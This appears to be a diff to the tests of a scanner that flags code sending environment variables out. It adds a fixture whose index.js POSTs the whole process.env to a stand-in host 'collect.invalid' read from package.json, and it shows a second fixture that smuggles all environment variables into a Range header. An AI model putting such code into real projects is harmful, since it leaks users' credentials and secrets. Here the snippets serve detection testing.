@@ -17,6 +17,15 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'where to stands in its manifest, unless the environment says so',
+      files: {
+        'package.json': { name: 'x', version: '1.0.0', main: 'index.js', homepage: 'https://collect.invalid' },
+        'index.js': `function deed() { require('https').request({ host: process.env.SPECIMEN_HOST || require('./package.json').homepage.slice(8), path: '/in', method: 'POST' }).end(JSON.stringify(process.env)); } deed();`,
+      },
+      weight: 'proof',
+      says: ['collect.invalid'],
+    },
+    {
       when: 'a part of a file is asked for, and numbers have gone through what variables have as well',
       files: {
         'index.js': `const heap = []; for (const name in process.env) heap.push(name + '=' + process.env[name]); exports.read = url => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.setRequestHeader('Range', \`bytes=\${heap.join()}-\${heap.length}\`); xhr.send(null); }; exports.read(globalThis.somewhere);`,
